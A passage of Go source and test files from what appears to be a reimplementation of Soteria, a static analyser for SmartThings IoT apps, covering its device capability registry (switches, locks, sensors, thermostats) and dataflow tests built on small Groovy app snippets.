		t.Errorf("on effects = %+v", on.Effects)
	}
	v, _ := Lookup("valve")
	cl, _ := v.Command("close")
	if cl.Effects[0].Value != "closed" {
		t.Errorf("valve.close should set valve=closed, got %q", cl.Effects[0].Value)
	}
}

func TestArgAttrCommands(t *testing.T) {
	th, _ := Lookup("thermostat")
	c, ok := th.Command("setHeatingSetpoint")
	if !ok || c.ArgAttr != "heatingSetpoint" {
		t.Errorf("setHeatingSetpoint = %+v, %v", c, ok)
	}
	loc, _ := Lookup("location")
	m, ok := loc.Command("setLocationMode")
	if !ok || m.ArgAttr != "mode" {
		t.Errorf("setLocationMode = %+v, %v", m, ok)
	}
}

func TestComplements(t *testing.T) {
	cases := []struct{ cap, attr, v, want string }{
		{"motionSensor", "motion", "active", "inactive"},
		{"contactSensor", "contact", "open", "closed"},
		{"switch", "switch", "on", "off"},
		{"smokeDetector", "smoke", "detected", "clear"},
		{"waterSensor", "water", "wet", "dry"},
	}
	for _, c := range cases {
		cp, _ := Lookup(c.cap)
		a, ok := cp.Attribute(c.attr)
		if !ok {
			t.Fatalf("%s.%s missing", c.cap, c.attr)
		}
		got, ok := a.Complement(c.v)
		if !ok || got != c.want {
			t.Errorf("complement(%s.%s=%s) = %q, want %q", c.cap, c.attr, c.v, got, c.want)
		}
	}
}

func TestComplementIsInvolution(t *testing.T) {
	// Property: complement(complement(v)) == v for every enum value
	// that has a complement.
	for _, name := range Names() {
		c, _ := Lookup(name)
		for _, a := range c.Attributes {
			for v, cv := range a.Complements {
				back, ok := a.Complement(cv)
				if !ok || back != v {
					t.Errorf("%s.%s: complement not involutive at %q (-> %q -> %q)", name, a.Name, v, cv, back)
				}
			}
		}
	}
}

func TestEnumValuesAreDistinct(t *testing.T) {
	for _, name := range Names() {
		c, _ := Lookup(name)
		for _, a := range c.Attributes {
			seen := map[string]bool{}
			for _, v := range a.Values {
				if seen[v] {
					t.Errorf("%s.%s: duplicate enum value %q", name, a.Name, v)
				}
				seen[v] = true
			}
		}
	}
}

func TestEffectsReferenceDeclaredAttributes(t *testing.T) {
	// Every command effect must target a declared attribute with a
	// value in its domain; every ArgAttr must be a declared attribute.
	for _, name := range Names() {
		c, _ := Lookup(name)
		for _, cmd := range c.Commands {
			if cmd.ArgAttr != "" {
				if _, ok := c.Attribute(cmd.ArgAttr); !ok {
					t.Errorf("%s.%s: ArgAttr %q not declared", name, cmd.Name, cmd.ArgAttr)
				}
			}
			for _, e := range cmd.Effects {
				a, ok := c.Attribute(e.Attr)
				if !ok {
					t.Errorf("%s.%s: effect attr %q not declared", name, cmd.Name, e.Attr)
					continue
				}
				if a.Kind == Enum && !a.HasValue(e.Value) {
					t.Errorf("%s.%s: effect value %q not in %s's domain %v", name, cmd.Name, e.Value, e.Attr, a.Values)
				}
			}
		}
	}
}

func TestAttributeOwner(t *testing.T) {
	cases := map[string]string{
		"water":  "waterSensor",
		"smoke":  "smokeDetector",
		"motion": "motionSensor",
		"power":  "powerMeter",
		"mode":   "location",
	}
	for attr, wantCap := range cases {
		c, ok := AttributeOwner(attr)
		if !ok || c.Name != wantCap {
			t.Errorf("AttributeOwner(%q) = %v, want %s", attr, c, wantCap)
		}
	}
	if _, ok := AttributeOwner("nonexistent"); ok {
		t.Error("unexpected owner for nonexistent attribute")
	}
}

func TestStateCount(t *testing.T) {
	// The paper's example (§4.2.1): a thermostat with 45 setpoint
	// values and a power meter with 100 energy levels yields 4.5K
	// states. Our thermostat has mode(4) × heating × cooling ×
	// temperature numeric attributes; with 45 numeric states it is
	// 4*45^3. Check the simple cases exactly.
	sw, _ := Lookup("switch")
	if n := sw.StateCount(10); n != 2 {
		t.Errorf("switch states = %d, want 2", n)
	}
	b, _ := Lookup("battery")
	if n := b.StateCount(100); n != 100 {
		t.Errorf("battery states = %d, want 100", n)
	}
	pm, _ := Lookup("powerMeter")
	wl, _ := Lookup("waterSensor")
	if n := pm.StateCount(100) * wl.StateCount(100); n != 200 {
		t.Errorf("powerMeter×waterSensor = %d, want 200", n)
	}
}

func TestStateCountPositiveProperty(t *testing.T) {
	// Property: StateCount is ≥ 1 for any capability and any positive
	// numeric discretisation.
	names := Names()
	f := func(i uint8, n uint8) bool {
		c, _ := Lookup(names[int(i)%len(names)])
		return c.StateCount(int(n%50)+1) >= 1
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestNamesSortedAndComplete(t *testing.T) {
	names := Names()
	if len(names) < 20 {
		t.Errorf("registry has only %d capabilities", len(names))
	}
	for i := 1; i < len(names); i++ {
		if names[i-1] >= names[i] {
			t.Errorf("names not sorted at %d: %q >= %q", i, names[i-1], names[i])
		}
	}
}

func TestAbstractCapabilities(t *testing.T) {
	for _, n := range []string{"location", "app", "timer"} {
		c, ok := Lookup(n)
		if !ok || !c.Abstract {
			t.Errorf("%s should be abstract", n)
		}
	}
	sw, _ := Lookup("switch")
	if sw.Abstract {
		t.Error("switch should not be abstract")
	}
}

func TestRegisterDuplicateReturnsError(t *testing.T) {
	c := &Capability{Name: "testOnlyRegisterProbe"}
	if err := Register(c); err != nil {
		t.Fatalf("first Register: %v", err)
	}
	defer delete(registry, c.Name)
	if err := Register(c); err == nil {
		t.Fatal("duplicate Register should return an error")
	}
	if err := Register(nil); err == nil {
		t.Fatal("nil Register should return an error")
	}
	if err := Register(&Capability{}); err == nil {
		t.Fatal("unnamed Register should return an error")
	}
}
