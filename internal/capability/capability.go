// Package capability is Soteria's device capability reference.
//
// The paper builds this reference by crawling the status/reply code
// blocks of the SmartThings device handlers on GitHub (§4.2.1); the
// crawler's output is a static table per capability listing the
// device's attributes (its state), the attributes' value domains, the
// commands (actions) the device accepts, and each command's effect on
// the attributes. This package encodes that table directly, covering
// every capability used by the paper's example apps, the MalIoT suite,
// and the market corpus, plus the platform's abstract capabilities
// (location mode, app touch, timer).
package capability

import (
	"fmt"
	"sort"
	"strings"
)

// ValueKind classifies an attribute's value domain.
type ValueKind int

const (
	// Enum attributes take one of a small fixed set of string values
	// (e.g. switch: on/off).
	Enum ValueKind = iota
	// Numeric attributes take integer or continuous values (e.g.
	// battery: 0–100); these are the attributes subject to Soteria's
	// property abstraction.
	Numeric
	// Text attributes carry opaque strings (e.g. image capture URLs);
	// they do not contribute states to the model.
	Text
)

func (k ValueKind) String() string {
	switch k {
	case Enum:
		return "enum"
	case Numeric:
		return "numeric"
	case Text:
		return "text"
	}
	return fmt.Sprintf("ValueKind(%d)", int(k))
}

// Attribute is one element of a device's state.
type Attribute struct {
	Name   string
	Kind   ValueKind
	Values []string // enum domain, in canonical order
	// Complements maps an enum value to its complementary value when
	// the attribute has a natural complement pair (active/inactive,
	// open/closed, ...). Used by general properties S.3/S.4.
	Complements map[string]string
}

// HasValue reports whether v is in the attribute's enum domain.
func (a *Attribute) HasValue(v string) bool {
	for _, x := range a.Values {
		if x == v {
			return true
		}
	}
	return false
}

// Complement returns the complementary enum value of v, if the
// attribute defines one.
func (a *Attribute) Complement(v string) (string, bool) {
	c, ok := a.Complements[v]
	return c, ok
}

// Command is a device action exposed by a capability.
type Command struct {
	Name string
	// Effects are the attribute assignments performed by the command
	// (e.g. on() sets switch=on; both() sets alarm=both).
	Effects []Effect
	// ArgAttr, when non-empty, names the attribute set from the
	// command's first argument (e.g. setHeatingSetpoint(t) sets
	// heatingSetpoint to t; setLevel(x) sets level to x).
	ArgAttr string
}

// Effect is a single attribute := value assignment.
type Effect struct {
	Attr  string
	Value string
}

// Capability describes one SmartThings capability.
type Capability struct {
	Name       string // canonical capability name, e.g. "switch"
	Attributes []Attribute
	Commands   []Command
	// Abstract marks platform-level pseudo-capabilities (location,
	// app touch, timer) that are not physical devices.
	Abstract bool
}

// Attribute returns the named attribute.
func (c *Capability) Attribute(name string) (*Attribute, bool) {
	for i := range c.Attributes {
		if c.Attributes[i].Name == name {
			return &c.Attributes[i], true
		}
	}
	return nil, false
}

// Command returns the named command.
func (c *Capability) Command(name string) (*Command, bool) {
	for i := range c.Commands {
		if c.Commands[i].Name == name {
			return &c.Commands[i], true
		}
	}
	return nil, false
}

// PrimaryAttribute returns the capability's first (defining) attribute,
// e.g. "switch" for switch, "motion" for motionSensor. Every concrete
// capability in the registry has at least one attribute.
func (c *Capability) PrimaryAttribute() *Attribute {
	if len(c.Attributes) == 0 {
		return nil
	}
	return &c.Attributes[0]
}

// StateCount returns the number of model states a single device of
// this capability contributes before numeric abstraction: the product
// of its enum attribute domain sizes (numeric attributes count per
// numericStates, the pre-abstraction discretisation the paper uses to
// illustrate state explosion, e.g. 45 thermostat setpoints, 100
// battery levels).
func (c *Capability) StateCount(numericStates int) int {
	n := 1
	for _, a := range c.Attributes {
		switch a.Kind {
		case Enum:
			n *= len(a.Values)
		case Numeric:
			n *= numericStates
		}
	}
	return n
}

// pair builds the complement map for a two-valued attribute.
func pair(a, b string) map[string]string {
	return map[string]string{a: b, b: a}
}

// registry holds every known capability, keyed by canonical name.
var registry = map[string]*Capability{}

// inputAliases maps the strings apps write in `input` permissions
// (after stripping the "capability." prefix) and other historical
// spellings to canonical capability names.
var inputAliases = map[string]string{
	"doorControl": "garageDoorControl",
	"presence":    "presenceSensor",
	"beacon":      "presenceSensor",
	"co":          "carbonMonoxideDetector",
	"coDetector":  "carbonMonoxideDetector",
}

// Register adds a capability to the registry. It returns an error —
// not a panic — on invalid or duplicate registrations, so callers
// extending the reference at runtime get a recoverable failure.
func Register(c *Capability) error {
	if c == nil || c.Name == "" {
		return fmt.Errorf("capability: registration requires a named capability")
	}
	if _, dup := registry[c.Name]; dup {
		return fmt.Errorf("capability: duplicate registration of %s", c.Name)
	}
	registry[c.Name] = c
	return nil
}

// register is the static-init helper for the built-in catalogue,
// where a duplicate is a programming error caught at package load.
func register(c *Capability) {
	if err := Register(c); err != nil {
		panic(err)
	}
}

// Lookup returns the capability with the given canonical name or
// input alias.
func Lookup(name string) (*Capability, bool) {
	if c, ok := registry[name]; ok {
		return c, true
	}
	if alias, ok := inputAliases[name]; ok {
		return registry[alias], true
	}
	return nil, false
}

// ForInputType resolves the type string of an `input` permission
// ("capability.waterSensor", "capability.switch", ...) to a
// capability. Non-device input types (number, text, phone, contact,
// enum, time, bool, mode) return ok=false.
func ForInputType(t string) (*Capability, bool) {
	if !strings.HasPrefix(t, "capability.") {
		return nil, false
	}
	return Lookup(strings.TrimPrefix(t, "capability."))
}

// IsUserInputType reports whether the input type string denotes a
// user-supplied value rather than a device.
func IsUserInputType(t string) bool {
	switch t {
	case "number", "decimal", "text", "string", "phone", "contact",
		"enum", "time", "bool", "boolean", "mode", "password", "email",
		"hub", "icon":
		return true
	}
	return false
}

// Names returns all canonical capability names in sorted order.
func Names() []string {
	names := make([]string, 0, len(registry))
	for n := range registry {
		names = append(names, n)
	}
	sort.Strings(names)
	return names
}

// AttributeOwner returns the capability that defines the given
// attribute name, used when parsing subscriptions like
// subscribe(dev, "water.wet", h) where only the attribute is named.
// If several capabilities define the attribute the first in canonical
// name order is returned.
func AttributeOwner(attr string) (*Capability, bool) {
	for _, n := range Names() {
		c := registry[n]
		if _, ok := c.Attribute(attr); ok {
			return c, true
		}
	}
	return nil, false
}

func init() {
	register(&Capability{
		Name: "switch",
		Attributes: []Attribute{{
			Name: "switch", Kind: Enum, Values: []string{"off", "on"},
			Complements: pair("on", "off"),
		}},
		Commands: []Command{
			{Name: "on", Effects: []Effect{{Attr: "switch", Value: "on"}}},
			{Name: "off", Effects: []Effect{{Attr: "switch", Value: "off"}}},
		},
	})
	register(&Capability{
		Name: "alarm",
		Attributes: []Attribute{{
			Name: "alarm", Kind: Enum,
			Values:      []string{"off", "siren", "strobe", "both"},
			Complements: pair("siren", "off"),
		}},
		Commands: []Command{
			{Name: "off", Effects: []Effect{{Attr: "alarm", Value: "off"}}},
			{Name: "siren", Effects: []Effect{{Attr: "alarm", Value: "siren"}}},
			{Name: "strobe", Effects: []Effect{{Attr: "alarm", Value: "strobe"}}},
			{Name: "both", Effects: []Effect{{Attr: "alarm", Value: "both"}}},
		},
	})
	register(&Capability{
		Name: "valve",
		Attributes: []Attribute{{
			Name: "valve", Kind: Enum, Values: []string{"closed", "open"},
			Complements: pair("open", "closed"),
		}},
		Commands: []Command{
			{Name: "open", Effects: []Effect{{Attr: "valve", Value: "open"}}},
			{Name: "close", Effects: []Effect{{Attr: "valve", Value: "closed"}}},
		},
	})
	register(&Capability{
		Name: "lock",
		Attributes: []Attribute{{
			Name: "lock", Kind: Enum, Values: []string{"unlocked", "locked"},
			Complements: pair("locked", "unlocked"),
		}},
		Commands: []Command{
			{Name: "lock", Effects: []Effect{{Attr: "lock", Value: "locked"}}},
			{Name: "unlock", Effects: []Effect{{Attr: "lock", Value: "unlocked"}}},
		},
	})
	register(&Capability{
		Name: "smokeDetector",
		Attributes: []Attribute{{
			Name: "smoke", Kind: Enum,
			Values:      []string{"clear", "detected", "tested"},
			Complements: pair("detected", "clear"),
		}},
	})
	register(&Capability{
		Name: "carbonMonoxideDetector",
		Attributes: []Attribute{{
			Name: "carbonMonoxide", Kind: Enum,
			Values:      []string{"clear", "detected", "tested"},
			Complements: pair("detected", "clear"),
		}},
	})
	register(&Capability{
		Name: "waterSensor",
		Attributes: []Attribute{{
			Name: "water", Kind: Enum, Values: []string{"dry", "wet"},
			Complements: pair("wet", "dry"),
		}},
	})
	register(&Capability{
		Name: "motionSensor",
		Attributes: []Attribute{{
			Name: "motion", Kind: Enum, Values: []string{"inactive", "active"},
			Complements: pair("active", "inactive"),
		}},
	})
	register(&Capability{
		Name: "contactSensor",
		Attributes: []Attribute{{
			Name: "contact", Kind: Enum, Values: []string{"closed", "open"},
			Complements: pair("open", "closed"),
		}},
	})
	register(&Capability{
		Name: "presenceSensor",
		Attributes: []Attribute{{
			Name: "presence", Kind: Enum,
			Values:      []string{"not present", "present"},
			Complements: pair("present", "not present"),
		}},
	})
	register(&Capability{
		Name: "accelerationSensor",
		Attributes: []Attribute{{
			Name: "acceleration", Kind: Enum,
			Values:      []string{"inactive", "active"},
			Complements: pair("active", "inactive"),
		}},
	})
	register(&Capability{
		Name: "sleepSensor",
		Attributes: []Attribute{{
			Name: "sleeping", Kind: Enum,
			Values:      []string{"not sleeping", "sleeping"},
			Complements: pair("sleeping", "not sleeping"),
		}},
	})
	register(&Capability{
		Name: "battery",
		Attributes: []Attribute{{
			Name: "battery", Kind: Numeric,
		}},
	})
	register(&Capability{
		Name: "powerMeter",
		Attributes: []Attribute{{
			Name: "power", Kind: Numeric,
		}},
	})
	register(&Capability{
		Name: "energyMeter",
		Attributes: []Attribute{{
			Name: "energy", Kind: Numeric,
		}},
	})
	register(&Capability{
		Name: "temperatureMeasurement",
		Attributes: []Attribute{{
			Name: "temperature", Kind: Numeric,
		}},
	})
	register(&Capability{
		Name: "relativeHumidityMeasurement",
		Attributes: []Attribute{{
			Name: "humidity", Kind: Numeric,
		}},
	})
	register(&Capability{
		Name: "illuminanceMeasurement",
		Attributes: []Attribute{{
			Name: "illuminance", Kind: Numeric,
		}},
	})
	register(&Capability{
		Name: "thermostat",
		Attributes: []Attribute{
			{Name: "thermostatMode", Kind: Enum,
				Values:      []string{"off", "heat", "cool", "auto"},
				Complements: pair("heat", "off")},
			{Name: "heatingSetpoint", Kind: Numeric},
			{Name: "coolingSetpoint", Kind: Numeric},
			{Name: "temperature", Kind: Numeric},
		},
		Commands: []Command{
			{Name: "off", Effects: []Effect{{Attr: "thermostatMode", Value: "off"}}},
			{Name: "heat", Effects: []Effect{{Attr: "thermostatMode", Value: "heat"}}},
			{Name: "cool", Effects: []Effect{{Attr: "thermostatMode", Value: "cool"}}},
			{Name: "auto", Effects: []Effect{{Attr: "thermostatMode", Value: "auto"}}},
			{Name: "setHeatingSetpoint", ArgAttr: "heatingSetpoint"},
			{Name: "setCoolingSetpoint", ArgAttr: "coolingSetpoint"},
		},
	})
	register(&Capability{
		Name: "switchLevel",
		Attributes: []Attribute{
			{Name: "level", Kind: Numeric},
		},
		Commands: []Command{
			{Name: "setLevel", ArgAttr: "level"},
		},
	})
	register(&Capability{
		Name: "musicPlayer",
		Attributes: []Attribute{{
			Name: "status", Kind: Enum,
			Values:      []string{"stopped", "playing", "paused"},
			Complements: pair("playing", "stopped"),
		}},
		Commands: []Command{
			{Name: "play", Effects: []Effect{{Attr: "status", Value: "playing"}}},
			{Name: "pause", Effects: []Effect{{Attr: "status", Value: "paused"}}},
			{Name: "stop", Effects: []Effect{{Attr: "status", Value: "stopped"}}},
		},
	})
	register(&Capability{
		Name: "garageDoorControl",
		Attributes: []Attribute{{
			Name: "door", Kind: Enum,
			Values:      []string{"closed", "open", "opening", "closing"},
			Complements: pair("open", "closed"),
		}},
		Commands: []Command{
			{Name: "open", Effects: []Effect{{Attr: "door", Value: "open"}}},
			{Name: "close", Effects: []Effect{{Attr: "door", Value: "closed"}}},
		},
	})
	register(&Capability{
		Name: "imageCapture",
		Attributes: []Attribute{{
			Name: "image", Kind: Enum, Values: []string{"idle", "taken"},
		}},
		Commands: []Command{
			{Name: "take", Effects: []Effect{{Attr: "image", Value: "taken"}}},
		},
	})
	register(&Capability{
		Name: "windowShade",
		Attributes: []Attribute{{
			Name: "windowShade", Kind: Enum,
			Values:      []string{"closed", "open", "partially open"},
			Complements: pair("open", "closed"),
		}},
		Commands: []Command{
			{Name: "open", Effects: []Effect{{Attr: "windowShade", Value: "open"}}},
			{Name: "close", Effects: []Effect{{Attr: "windowShade", Value: "closed"}}},
		},
	})
	register(&Capability{
		Name: "fanControl",
		Attributes: []Attribute{{
			Name: "fan", Kind: Enum, Values: []string{"off", "on"},
			Complements: pair("on", "off"),
		}},
		Commands: []Command{
			{Name: "fanOn", Effects: []Effect{{Attr: "fan", Value: "on"}}},
			{Name: "fanOff", Effects: []Effect{{Attr: "fan", Value: "off"}}},
		},
	})

	// Abstract capabilities (§4.2.3): location mode changes, app touch
	// (icon click) events, and scheduled timer events.
	register(&Capability{
		Name:     "location",
		Abstract: true,
		Attributes: []Attribute{{
			Name: "mode", Kind: Enum,
			Values:      []string{"home", "away", "night"},
			Complements: pair("home", "away"),
		}},
		Commands: []Command{
			{Name: "setLocationMode", ArgAttr: "mode"},
		},
	})
	register(&Capability{
		Name:     "app",
		Abstract: true,
		Attributes: []Attribute{{
			Name: "touch", Kind: Enum, Values: []string{"idle", "touched"},
		}},
	})
	register(&Capability{
		Name:     "timer",
		Abstract: true,
		Attributes: []Attribute{{
			Name: "time", Kind: Enum, Values: []string{"idle", "fired"},
		}},
	})
}
