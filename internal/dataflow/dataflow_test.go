package dataflow

import (
	"testing"

	"github.com/soteria-analysis/soteria/internal/cfg"
	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/paperapps"
	"github.com/soteria-analysis/soteria/internal/pathcond"
)

func analysisFor(t *testing.T, name, src string) *Analysis {
	t.Helper()
	app, err := ir.BuildSource(name, src)
	if err != nil {
		t.Fatalf("BuildSource: %v", err)
	}
	return New(app, cfg.Build(app))
}

// TestFig6PropertyAbstraction reproduces the paper's Fig. 6 example:
// modeChangeHandler sets temp = 68, calls setTemp(temp), which calls
// ther.setHeatingSetpoint(t). Algorithm 1 must discover the single
// constant source 68 so the state space collapses from 45 values to 2.
func TestFig6PropertyAbstraction(t *testing.T) {
	a := analysisFor(t, "thermostat", paperapps.ThermostatEnergyControl)
	args := a.NumericActionArgs()
	var heat *ActionArg
	for i := range args {
		if args[i].Attr == "heatingSetpoint" {
			heat = &args[i]
		}
	}
	if heat == nil {
		t.Fatalf("setHeatingSetpoint action not found; args = %+v", args)
	}
	if heat.Method != "setTemp" {
		t.Errorf("action method = %s, want setTemp", heat.Method)
	}
	res := a.NumericSources(heat.Method, heat.Node, heat.Arg)
	vals := res.ConstantValues()
	if len(vals) != 1 || vals[0] != 68 {
		t.Fatalf("constant sources = %v, want [68]; sources = %+v", vals, res.Sources)
	}
	// The dep relation should include the (6:t, 3:temp) style edge.
	if len(res.Deps) == 0 {
		t.Error("dep relation is empty")
	}
}

func TestDirectConstantArgument(t *testing.T) {
	a := analysisFor(t, "t", `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() { subscribe(location, "mode", h) }
def h(evt) { ther.setHeatingSetpoint(72) }
`)
	args := a.NumericActionArgs()
	if len(args) != 1 {
		t.Fatalf("args = %d", len(args))
	}
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	if vals := res.ConstantValues(); len(vals) != 1 || vals[0] != 72 {
		t.Errorf("values = %v", vals)
	}
}

func TestUserInputSource(t *testing.T) {
	a := analysisFor(t, "t", `
preferences {
    section("s") {
        input "ther", "capability.thermostat"
        input "userTemp", "number", title: "Temperature"
    }
}
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def v = userTemp
    ther.setHeatingSetpoint(v)
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	if len(res.Sources) != 1 || res.Sources[0].Kind != UserInput || res.Sources[0].Handle != "userTemp" {
		t.Errorf("sources = %+v", res.Sources)
	}
}

// TestFootnote3Arithmetic checks `x = y + 10` offset propagation: the
// user input is stored in y, x = y + 10, and a device attribute change
// uses x.
func TestFootnote3Arithmetic(t *testing.T) {
	a := analysisFor(t, "t", `
preferences {
    section("s") {
        input "ther", "capability.thermostat"
        input "base", "number"
    }
}
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def y = base
    def x = y + 10
    ther.setHeatingSetpoint(x)
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	if len(res.Sources) != 1 {
		t.Fatalf("sources = %+v", res.Sources)
	}
	s := res.Sources[0]
	if s.Kind != UserInput || s.Handle != "base" || s.Offset != 10 {
		t.Errorf("source = %+v", s)
	}
	if s.Label() != "base+10" {
		t.Errorf("label = %s", s.Label())
	}
}

func TestConstantPlusArithmetic(t *testing.T) {
	a := analysisFor(t, "t", `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def y = 60
    def x = y + 8
    ther.setHeatingSetpoint(x)
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	if vals := res.ConstantValues(); len(vals) != 1 || vals[0] != 68 {
		t.Errorf("values = %v", vals)
	}
}

func TestMultipleDefsBothBranches(t *testing.T) {
	a := analysisFor(t, "t", `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def v = 70
    if (evt.value == "away") {
        v = 60
    }
    ther.setHeatingSetpoint(v)
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	vals := res.ConstantValues()
	if len(vals) != 2 || vals[0] != 60 || vals[1] != 70 {
		t.Errorf("values = %v", vals)
	}
}

// TestKilledDefinitionNotReported: a definition overwritten on every
// path to the use must not appear as a source.
func TestKilledDefinitionNotReported(t *testing.T) {
	a := analysisFor(t, "t", `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def v = 50
    v = 65
    ther.setHeatingSetpoint(v)
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	vals := res.ConstantValues()
	if len(vals) != 1 || vals[0] != 65 {
		t.Errorf("values = %v (the v=50 def is killed)", vals)
	}
}

// TestInfeasiblePathPruned reproduces §4.2.1's pruning example: a
// dependence path through branches x > 1 and x < 0 is infeasible and
// must be discarded.
func TestInfeasiblePathPruned(t *testing.T) {
	a := analysisFor(t, "t", `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def v = 99
    if (x > 1) {
        v = 70
    }
    if (x < 0) {
        ther.setHeatingSetpoint(v)
    }
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	// Reaching the v=70 definition requires crossing both the x<0 and
	// the x>1 branch edges — an infeasible combination, so 70 must be
	// pruned. The v=99 definition is reachable via the ¬(x>1) edge
	// (x<0 ∧ x<=1 is satisfiable) and must be kept.
	vals := res.ConstantValues()
	if len(vals) != 1 || vals[0] != 99 {
		t.Errorf("values = %v, want [99]", vals)
	}
	if res.Pruned == 0 {
		t.Error("expected at least one pruned path")
	}
}

func TestDeviceReadSource(t *testing.T) {
	a := analysisFor(t, "t", `
preferences {
    section("s") {
        input "ther", "capability.thermostat"
        input "meter", "capability.powerMeter"
    }
}
def installed() { subscribe(meter, "power", h) }
def h(evt) {
    def p = meter.currentValue("power")
    ther.setHeatingSetpoint(p)
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	if len(res.Sources) != 1 || res.Sources[0].Kind != DeviceRead {
		t.Fatalf("sources = %+v", res.Sources)
	}
	if res.Sources[0].Handle != "meter" || res.Sources[0].Attr != "power" {
		t.Errorf("source = %+v", res.Sources[0])
	}
}

func TestStateVarSource(t *testing.T) {
	a := analysisFor(t, "t", `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    ther.setHeatingSetpoint(state.target)
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	if len(res.Sources) != 1 || res.Sources[0].Kind != StateVar || res.Sources[0].Field != "target" {
		t.Errorf("sources = %+v", res.Sources)
	}
}

func TestTernarySources(t *testing.T) {
	a := analysisFor(t, "t", `
preferences {
    section("s") {
        input "ther", "capability.thermostat"
        input "userTemp", "number"
    }
}
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    ther.setHeatingSetpoint(userTemp ?: 70)
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	if len(res.Sources) != 2 {
		t.Fatalf("sources = %+v", res.Sources)
	}
	kinds := map[SourceKind]bool{}
	for _, s := range res.Sources {
		kinds[s.Kind] = true
	}
	if !kinds[UserInput] || !kinds[Constant] {
		t.Errorf("sources = %+v", res.Sources)
	}
}

func TestInterproceduralReturnChain(t *testing.T) {
	a := analysisFor(t, "t", `
preferences { section("s") { input "ther", "capability.thermostat" } }
def installed() { subscribe(location, "mode", h) }
def h(evt) {
    def v = pick()
    ther.setHeatingSetpoint(v)
}
def pick() {
    def inner = 66
    return inner
}
`)
	args := a.NumericActionArgs()
	res := a.NumericSources(args[0].Method, args[0].Node, args[0].Arg)
	if vals := res.ConstantValues(); len(vals) != 1 || vals[0] != 66 {
		t.Errorf("values = %v; sources = %+v", vals, res.Sources)
	}
}

func TestAttributeSourcesKeying(t *testing.T) {
	a := analysisFor(t, "thermostat", paperapps.ThermostatEnergyControl)
	srcs := a.AttributeSources()
	r, ok := srcs["ther.heatingSetpoint"]
	if !ok {
		t.Fatalf("keys = %v", keysOf(srcs))
	}
	if vals := r.ConstantValues(); len(vals) != 1 || vals[0] != 68 {
		t.Errorf("values = %v", vals)
	}
}

func keysOf(m map[string]*Result) []string {
	var ks []string
	for k := range m {
		ks = append(ks, k)
	}
	return ks
}

// --- CondFromExpr tests -------------------------------------------------

func condOf(t *testing.T, src string, negated bool) pathcond.Cond {
	t.Helper()
	e, err := groovy.ParseExpr(src)
	if err != nil {
		t.Fatalf("ParseExpr(%q): %v", src, err)
	}
	return CondFromExpr(e, negated)
}

func TestCondFromExprComparisons(t *testing.T) {
	c := condOf(t, `power_val > 50`, false)
	if len(c.Atoms) != 1 || c.Atoms[0].Op != pathcond.GT || c.Atoms[0].Num != 50 {
		t.Errorf("cond = %+v", c)
	}
	c = condOf(t, `evt.value == "detected"`, false)
	if len(c.Atoms) != 1 || c.Atoms[0].Str != "detected" || c.Atoms[0].Var != "evt.value" {
		t.Errorf("cond = %+v", c)
	}
}

func TestCondFromExprNegation(t *testing.T) {
	c := condOf(t, `x > 5`, true)
	if len(c.Atoms) != 1 || c.Atoms[0].Op != pathcond.LE {
		t.Errorf("cond = %+v", c)
	}
	c = condOf(t, `!(x > 5)`, false)
	if len(c.Atoms) != 1 || c.Atoms[0].Op != pathcond.LE {
		t.Errorf("double negation cond = %+v", c)
	}
}

func TestCondFromExprConjunction(t *testing.T) {
	c := condOf(t, `x > 5 && y == "on"`, false)
	if len(c.Atoms) != 2 {
		t.Errorf("cond = %+v", c)
	}
}

func TestCondFromExprDeMorgan(t *testing.T) {
	// ¬(a ∨ b) = ¬a ∧ ¬b.
	c := condOf(t, `x > 5 || x < 1`, true)
	if len(c.Atoms) != 2 {
		t.Fatalf("cond = %+v", c)
	}
	if !pathcond.Feasible(c) {
		t.Error("1 <= x <= 5 should be feasible")
	}
}

func TestCondFromExprSwappedLiteral(t *testing.T) {
	c := condOf(t, `50 < power_val`, false)
	if len(c.Atoms) != 1 || c.Atoms[0].Op != pathcond.GT || c.Atoms[0].Var != "power_val" {
		t.Errorf("cond = %+v", c)
	}
}

func TestCondFromExprOpaqueFallback(t *testing.T) {
	c := condOf(t, `location.contactBookEnabled`, false)
	if len(c.Opaque) != 1 || len(c.Atoms) != 0 {
		t.Errorf("cond = %+v", c)
	}
	// Negated conjunction (unsupported exactly) must become opaque,
	// not silently wrong.
	c = condOf(t, `x > 1 && y > 2`, true)
	if len(c.Atoms) != 0 || len(c.Opaque) != 1 {
		t.Errorf("negated conjunction should be opaque: %+v", c)
	}
}

// TestDepthOneCallSiteSensitivity: the same helper called from two
// sites with different constants yields both constants as sources —
// parameter back-propagation over call sites (§4.2.1's "depth-one
// call-site sensitivity").
func TestDepthOneCallSiteSensitivity(t *testing.T) {
